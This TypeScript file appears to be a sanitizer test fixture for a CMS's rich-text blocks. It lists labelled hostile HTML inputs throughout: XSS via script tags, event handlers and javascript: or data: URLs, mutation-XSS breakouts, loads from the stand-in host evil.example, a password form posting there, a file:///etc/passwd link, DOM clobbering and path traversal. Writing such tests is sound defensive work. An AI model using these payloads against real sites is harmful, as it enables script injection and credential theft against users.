/** Inputs that try to run code, load from other hosts or interfere with the page. */
export const HOSTILE: Record<string, string> = {
  // Scripts.
  'a script': '<script>alert(1)</script>',
  'a script in capitals with odd space': '<ScRiPt\n\t/x>alert(1)</sCrIpT\n>',
  'a script from another host': '<script src="https://evil.example/x.js"></script>',
  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script never closed': '<script>alert(1)//',
  'a script made by a comment': '<<!-- -->script>alert(1)<<!-- -->/script>',
  'a script made by an unknown tag': '<<x>script>alert(1)</script>',
  'a script hidden in a comment': '<!--><script>alert(1)</script>-->',
  'a comment closed oddly': '<!-- --!><img src=x onerror=alert(1)> -->',
  'a module and an import map': '<script type="importmap">{"imports":{}}</script><script type="module">1</script>',
  'a conditional comment': '<!--[if IE]><script>alert(1)</script><![endif]-->',
  'a processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?><p>x',
  'cdata in text': '<![CDATA[<script>alert(1)</script>]]>',
  'a null in a tag name': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  // Event handlers.
  'an error handler': '<img src=x onerror=alert(1)>',
  'a handler after a slash': '<img/src="/a.jpg"/onload=alert(1)>',
  'a handler without quotes or space': '<img src="/a.jpg"onload="alert(1)">',
  'a handler in capitals': '<p ONCLICK="alert(1)" OnMouseOver=alert(1)>x</p>',
  'a handler on body': '<body onload=alert(1)><p>x',
  'a handler on details': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'a handler on video': '<video src="/a.mp4" onloadstart=alert(1) autoplay></video>',
  'a handler on a focused element': '<p tabindex=0 autofocus onfocus=alert(1)>x</p>',
  'a handler on an animation': '<p style="animation:x" onanimationstart=alert(1)>x</p>',
  'a handler after a backtick': '<img src="/a.jpg" alt=`x`onerror=alert(1)>',
  'a handler behind a broken quote': '<img src="/a.jpg" alt=""" onerror=alert(1) x=">',
  'a handler named with a quote': '<p "onclick"=alert(1) onclick\u0000=alert(1) \u0000onclick=alert(1)>x</p>',
  // URLs that run code.
  'a javascript link': '<a href="javascript:alert(1)">x</a>',
  'a javascript link in mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'a javascript link with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'a javascript link with a line break': '<a href="java&#10;script&#x3a;alert(1)">x</a>',
  'a javascript link in entities': '<a href="&#106;&#x61;vascript&colon;alert&lpar;1&rpar;">x</a>',
  'a javascript link after a control character': '<a href="\u0001 &#14; javascript:alert(1)">x</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'a data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a blob link': '<a href="blob:https://evil.example/1">x</a>',
  'a file link': '<a href="file:///etc/passwd">x</a>',
  'a view-source link': '<a href="view-source:javascript:alert(1)">x</a>',
  'a quote address that runs': '<blockquote cite="javascript:alert(1)">x</blockquote>',
  'a javascript picture': '<img src="javascript:alert(1)">',
  'a javascript form': '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  'a link that reports clicks': '<a href="/x" ping="https://evil.example/">x</a>',
  // Pictures, audio and other requests to another host.
  'a picture from another host': '<img src="https://evil.example/a.png" alt="x">',
  'a picture from another protocol': '<img src="//evil.example/a.png" alt="x">',
  'a picture behind backslashes': '<img src="/\\evil.example/a.png" alt="x">',
  'a picture behind a tab': '<img src="/\t/evil.example/a.png" alt="x">',
  'a picture behind a line break and space': '<img src=" &#10;/&#9;/evil.example/a.png" alt="x">',
  'a picture in data': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'a set of pictures': '<img src="/a.jpg" srcset="https://evil.example/a.png 1x" sizes="1px">',
  'a picture element': '<picture><source srcset="https://evil.example/a.png"><img src="/a.jpg"></picture>',
  'an old picture': '<image src="https://evil.example/a.png" onerror=alert(1)>',
  'a lowsrc picture': '<img src="/a.jpg" lowsrc="https://evil.example/" dynsrc="https://evil.example/">',
  'a background': '<table background="https://evil.example/a.png"><tr><td background="//evil.example">x</table>',
  'a video from another host': '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png"></video>',
  'a poster from another host': '<video src="/a.mp4" poster="//evil.example/a.png"></video>',
  'a source from another host': '<audio><source src="//evil.example/a.mp3"></audio>',
  'a track from another host': '<video src="/a.mp4"><track src="https://evil.example/a.vtt" default></video>',
  'a preload':
    '<link rel="preload" as="image" href="https://evil.example/a.png"><link rel=stylesheet href=//evil.example>',
  'a user name before the host': '<img src="https://example.com@evil.example/a.png">',
  'unclosed markup that swallows the page': "<img src='https://evil.example/?",
  'an unclosed link': '<a href="https://evil.example/?x=',
  // Styles.
  'a style attribute': '<p style="background:url(https://evil.example/a.png);position:fixed">x</p>',
  'a style element': '<style>@import "https://evil.example/x.css";</style>',
  'a style that breaks out': '<style><img src="</style><img src=x onerror=alert(1)//">',
  // Frames and plug-ins.
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a frame never closed': '<iframe src="javascript:alert(1)">',
  'an object': '<object data="https://evil.example/x.swf"><param name=x value=y></object>',
  'an embed': '<embed src="https://evil.example/x.swf">',
  'an applet and a frameset': '<applet code=x></applet><frameset><frame src="javascript:alert(1)"></frameset>',
  'a portal and a fenced frame': '<portal src="https://evil.example"></portal><fencedframe></fencedframe>',
  // Document-level elements.
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a base': '<base href="https://evil.example/"><a href="/x">x</a>',
  'a whole document': '<!doctype html><html manifest=x><head><title>x</title></head><body background=//evil.example>x',
  'a form': '<form action="https://evil.example"><input name=password type=password><textarea>x</textarea></form>',
  'a button that opens a popover': '<button popovertarget=x commandfor=x>x</button><div popover id=x>y</div>',
  'an input of type image': '<input type=image src="https://evil.example/a.png" onerror=alert(1)>',
  // Other syntaxes, and markup that changes when it is parsed again.
  'svg that runs': '<svg onload=alert(1)><script>alert(1)</script></svg>',
  'svg never closed': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>',
  'svg that animates a link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'svg that uses another file':
    '<svg><use href="https://evil.example/x.svg#a"/><image href="//evil.example/a.png"/></svg>',
  'svg with foreign content': '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'svg and style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'math with a link':
    '<math href="javascript:alert(1)"><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</math>',
  'a form in math in a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'noscript that breaks out': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a declarative shadow root': '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  'a title that breaks out': '<title><a title="</title><img src=x onerror=alert(1)>">',
  'a textarea that breaks out': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'xmp, noembed and plaintext': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"><noembed></noembed><plaintext><b>',
  'a select': '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  'entities that decode twice': '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  // Ids and names that clobber something in the page.
  'ids that clobber': '<h2 id="location">a</h2><p id="__proto__">b</p><a id="defaultView" name="cookie">c</a>',
  'names that clobber':
    '<img src="/a.jpg" name="getElementById"><a name="body">x</a><form name="forms" id=main>y</form>',
  'a class and a role of the page': '<p class="fixed inset-0 z-50" role="dialog" aria-live="assertive">x</p>',
  'attributes of React': '<p dangerouslysetinnerhtml="{&quot;__html&quot;:1}" key=1 ref=x children=y is=x slot=y>x</p>',
  'attributes that a script would read':
    '<a data-action="delete" data-method="post" hx-get="//evil.example" href="/x">x</a>',
  'a link to another window': '<a href="https://evil.example" target="opener" download rel="opener">x</a>',
  'an editable text': '<p contenteditable nonce=x itemid="https://evil.example">x</p>',
  'words that turn around': '<bdo dir="javascript:">x</bdo>',
  // Data that editors may set on headings and parts.
  'a heading that leads to a script': '<h2 data-link="javascript:alert(1)" data-menu="x">x</h2>',
  'a heading that leads to a script behind a tab': '<h3 data-link=" java&#9;script:alert(1)">x</h3>',
  'a heading that leads to data': '<h2 data-link="data:text/html,<script>alert(1)</script>">x</h2>',
  'a heading that leads behind backslashes': '<h2 data-link="/\\evil.example">x</h2>',
  'a heading whose label breaks out': '<h2 data-menu="&quot;><img src=x onerror=alert(1)>" data-icon="&quot;>">x</h2>',
  'a heading with an icon that is none': '<h2 data-icon="constructor" data-format="__proto__, bold">x</h2>',
  'a heading with a huge label': `<h2 data-menu="${'word '.repeat(20_000)}">x</h2>`,
  'an expander with a huge label': `<div data-block="expander" data-label="${'x'.repeat(90_000)}"><p>a</p><p>b</p></div>`,
  'an expander whose label breaks out':
    '<div data-block="expander" data-label="&quot;><script>"><p>a</p><p>b</p></div>',
  'a label without an expander':
    '<div data-label="x"><p>a</p><section data-block="members" data-label="x">b</section></div>',
  'an expander in an expander':
    '<div class="expander"><p>a</p><div class="expander"><p>b</p><div data-block=expander><p>c</p><p>d</p></div></div></div>',
  'an expander in a table': '<table><tr><td><div data-block="expander"><p>a</p><p>b</p></div><td>c</table>',
  'an expander as a row': '<table><div data-block="expander"><tr data-block="expander"><td>a<td>b</div></table>',
  'a journey in a journey':
    '<div data-block="journey"><h3>a</h3><section class="journey"><h3>b</h3></section><ol><li onclick=x>c</ol></div>',
  'a journey of a list that is none':
    '<div data-block="journey"><ul style="position:fixed" class="x y"><img src=//e></ul></div>',
  'a part that no one knows':
    '<div data-block="hero" class="expander fixed inset-0" data-label=x data-x=y><p>x</p></div>',
  'a part named as a part of objects': '<div data-block="constructor" class="__proto__ toString"><p>x</p></div>',
  // Buttons, galleries, videos and cards.
  'a button that runs':
    '<div data-block="buttons"><a href="javascript:alert(1)">x</a><a href="/x" onclick=x>y</a></div>',
  'a button with a look of its own':
    '<div data-block="buttons"><a href="/x" class="fixed inset-0" data-format="__proto__" style="position:fixed">x</a></div>',
  'a button around a picture':
    '<div data-block="buttons"><a href="//evil.example"><img src="//evil.example/a"></a></div>',
  'a gallery from another host':
    '<div data-block="gallery"><figure><img src="https://evil.example/a.png" width=9 height=9></figure></div>',
  'a gallery with a set of pictures':
    '<div data-block="gallery"><figure><img src="/cms/api/media/file/a.webp" srcset="//evil.example 1x" width=9 height=9></figure></div>',
  'a gallery whose picture breaks out':
    '<div data-block="gallery"><figure><img src="/cms/api/media/file/&quot;,//evil.example" alt="&quot;><script>" width=9 height=9></figure></div>',
  'a picture that leaves the library':
    '<img src="/cms/api/media/file/..%2f..%2fadmin,https://evil.example 2x" width=9 height=9>',
  'a video that runs': '<div data-block="video"><a href="javascript:alert(1)//.mp4">x</a></div>',
  'a player with a frame of its own':
    '<div data-block="video"><iframe src="https://evil.example"></iframe><a href="https://evil.example/v.mp4">x</a></div>',
  'a video with a poster from another host':
    '<div data-block="video"><figure><img src="//evil.example/p.png"><a href="https://youtu.be/aqz-KE-bpKQ">x</a></figure></div>',
  'cards of another host': '<div data-block="cards"><ul><li><a href="//evil.example/x">x</a></li></ul></div>',
  'cards that run': '<div data-block="cards"><a href="javascript:alert(1)">x</a><a href="/\\evil.example">y</a></div>',
  'cards in cards':
    '<div data-block="cards"><div data-block="cards"><a href="/x">x</a></div><div data-block="gallery">y</div></div>',
  'a table with a role of its own':
    '<div role="dialog" tabindex="-1" aria-label="x"><table role="presentation" tabindex=5 aria-live=polite><caption>&quot;><script></caption><tr><td tabindex=1>x</table></div>',
}
